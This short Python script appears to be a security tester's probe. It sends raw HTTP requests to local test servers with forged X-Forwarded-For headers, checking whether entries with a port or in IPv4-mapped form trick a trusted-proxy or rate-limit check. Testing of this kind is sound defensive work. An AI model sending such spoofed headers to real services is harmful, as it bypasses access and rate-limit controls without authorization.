import socket, sys
sys.path.insert(0,'/tmp/attack/findings2')
from raw import status
def r(port, xff, src='127.0.0.2', path='/ip'):
    s=socket.socket(); s.bind((src,0)); s.connect(('127.0.0.1',port)); s.settimeout(3)
    s.sendall(f"GET {path} HTTP/1.1\r\nHost: x\r\nX-Forwarded-For: {xff}\r\nConnection: close\r\n\r\n".encode()); out=b''
    while (c:=s.recv(65536)): out+=c
    return status(out)[9:12]
print('dual-stack listener, peer ::ffff:127.0.0.2 trusted?', [r(28380, f'21.0.0.{i}') for i in range(4)], '(distinct clients -> all 200 if trusted)')
print('trusted entry with port walked past', [r(28080, f'22.0.0.{i}, 127.0.0.2:5555') for i in range(3)])
print('trusted entry v4-mapped walked past', [r(28080, f'23.0.0.{i}, ::ffff:127.0.0.2') for i in range(3)])
